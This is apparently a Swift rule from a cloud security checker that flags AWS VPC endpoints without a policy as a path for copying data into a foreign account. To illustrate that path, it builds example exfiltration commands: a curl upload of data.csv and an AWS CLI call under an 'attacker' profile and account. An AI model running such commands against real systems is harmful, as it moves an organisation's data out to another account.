import CordonModel
import CordonPolicy

/// An endpoint that asks nothing.
struct EndpointWithoutPolicyRoute: Route {
  let name = "endpoint-without-policy"
  let path = EgressPath.crossAccountCopy
  let title = "an endpoint lets any credentials reach any account"
  let documentation = RouteDocumentation(
    """
    An endpoint without a policy has AWS's default: every action, for everyone, on everything. So has one to a service that \
    reads no endpoint policies, whatever is written.
    """,
    closedBy: ["a policy on every endpoint, and no endpoint to a service that reads none"],
    notClosedBy: ["the endpoint's security group: it says which machines, not which credentials"],
    alone: "the endpoint's policy alone sees foreign credentials: guardrails bind our own")

  func judge(_ scene: Scene) -> Judgement {
    var judgement = Judgement()
    for endpoint in scene.endpointsOfWorkloads {
      let name = "\(endpoint.resource.id)"
      switch endpoint.openness {
      case .none:
        judgement.add(
          .closed(
            name, HeldControl(endpoint.resource, layer: "endpoint policy", property: ["PolicyDocument"])))
      case .noPolicy, .serviceReadsNone:
        let short = endpoint.service.value?.short ?? "the service"
        judgement.add(
          .open(
            name,
            RouteWitness(
              Self.line(endpoint, scene.estate),
              by: Walker(
                caller: "anyone with a terminal in the network",
                credentials: "any account's, carried in", door: "endpoint \(name)"),
              story: "Anyone with a shell in the network calls \(short) with credentials of any account.",
              fix: endpoint.fix, at: endpoint.resource, "PolicyDocument")))
      }
    }
    if judgement.doors.isEmpty {
      judgement.add(.closed("endpoints", HeldControl(absence: "no endpoint to an AWS service")))
    }
    return judgement
  }

  /// A call that carries data through the endpoint.
  private static func line(_ endpoint: CloudEndpoint, _ estate: CloudEstate) -> String {
    let short = endpoint.service.value?.short ?? "service"
    let action = endpoint.service.value?.prefix.flatMap { TellingCall.actions[$0] }
    guard let action,
      let principal = try? Principal(parsing: "arn:aws:iam::\(estate.attackerAccount):user/theirs")
    else {
      // What reads no policy has no command that is known here: the service's own host takes what is sent.
      return "curl -sS --data-binary @data.csv https://\(short).\(estate.region).amazonaws.com/"
    }
    let resource = estate.foreignResources(action.split(separator: ":")[0].description)[0]
    let named = resource.replacing("*", with: "theirs")
    return CommandLineCall(AccessRequest(principal: principal, action: action, resource: named))
      .text(profile: "attacker")
  }
}

/// For each service the call that shows best what leaves through its endpoint.
enum TellingCall {
  static let actions: [String: String] = [
    "s3": "s3:PutObject", "logs": "logs:PutLogEvents", "sts": "sts:AssumeRole", "kms": "kms:Encrypt",
    "sqs": "sqs:SendMessage", "sns": "sns:Publish", "ssm": "ssm:PutParameter", "events": "events:PutEvents",
    "kinesis": "kinesis:PutRecord", "ecr": "ecr:PutImage", "dynamodb": "dynamodb:PutItem",
    "secretsmanager": "secretsmanager:PutSecretValue", "codeartifact": "codeartifact:PublishPackageVersion",
    "lambda": "lambda:InvokeFunction", "sagemaker": "sagemaker:CreateTrainingJob",
    "athena": "athena:StartQueryExecution", "glue": "glue:CreateJob",
    "cloudwatch": "cloudwatch:PutMetricData",
    "states": "states:StartExecution", "firehose": "firehose:PutRecord", "codecommit": "codecommit:PutFile",
    "bedrock": "bedrock:InvokeModel",
  ]
}
